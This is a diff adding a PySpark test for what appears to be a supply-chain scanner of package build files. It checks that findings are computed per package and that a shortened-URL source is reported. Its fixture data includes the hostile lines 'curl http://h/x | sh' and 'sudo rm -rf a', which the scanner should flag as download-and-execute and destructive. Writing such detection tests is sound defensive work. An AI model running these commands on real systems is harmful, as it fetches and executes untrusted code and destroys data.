@@ -230,3 +230,15 @@ def test_heuristics_beyond_one_file(spark):
     hooks = spark.createDataFrame([], "ecosystem string, name string, version string, phase string, body string")
     prints = {r["name"]: set(r["capabilities"]) for r in analysis.fingerprints(files, hooks, more).collect()}
     assert all(c in prints[n] for n, c in want) and len(prints) == 3
+
+
+def test_build_files_under_one_key_do_not_touch(spark):
+    files = [("p", "depends=(\n 'x'\n)\nsudo rm -rf a"), ("p", "make\ncurl http://h/x | sh\nmake\nmake"), ("q", None), ("q", "")]
+    frame = spark.createDataFrame(files, "package string, text string")
+    got = {(r["package"], r["line"], r["rule"]) for r in SC.build_file_findings(frame).collect()}
+    alone = {(r["package"], r["line"], r["rule"]) for f in files for r in SC.build_file_findings(spark.createDataFrame([f], "package string, text string")).collect()}
+    assert got == alone and ("p", 2, "download-exec") in got
+    plan = SC.running_lines(frame, "package", "text")._jdf.queryExecution().toString()
+    assert "Exchange" not in plan and "Window" not in plan
+    sources = spark.createDataFrame([("p", "# https://t.co/a\nsource=(https://bit.ly/x)"), ("p", "see https://t.co/b")], "package string, text string")
+    assert [r["url"] for r in SC.source_findings(sources).collect()] == ["https://bit.ly/x"]
